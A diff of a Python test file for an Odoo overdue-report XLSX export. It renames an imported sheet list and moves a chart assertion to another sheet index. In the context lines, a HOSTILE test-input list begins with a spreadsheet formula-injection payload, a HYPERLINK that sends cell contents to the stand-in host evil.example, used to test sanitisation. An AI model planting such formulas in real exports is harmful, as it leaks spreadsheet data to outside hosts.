@@ -10,7 +10,7 @@ from odoo.tests import new_test_user, tagged
 
 from ..report import overdue_segments, xlsx_text, xlsx_writer
 from ..report.xlsx_text import clean_sheet_name, clean_text, spreadsheet_format
-from .overdue_common import FIRST, SHEETS, OverdueXlsxCommon
+from .overdue_common import ALL_SHEETS, FIRST, OverdueXlsxCommon
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -111,9 +111,9 @@ class TestHostileXlsx(OverdueXlsxCommon):
 
         with patch.object(type(self.env), "_", translate):
             book = self.open_book(self.make()[1])
-        self.assertEqual(len(book.sheetnames), len(SHEETS))
-        [chart] = book.worksheets[3]._charts
-        self.assertIn(book.sheetnames[3].replace("'", "''"), chart.series[0].val.numRef.f)
+        self.assertEqual(len(book.sheetnames), len(ALL_SHEETS))
+        [chart] = book.worksheets[4]._charts
+        self.assertIn(book.sheetnames[4].replace("'", "''"), chart.series[0].val.numRef.f)
 
     def test_examples(self):
         for module in (overdue_segments, xlsx_text, xlsx_writer):
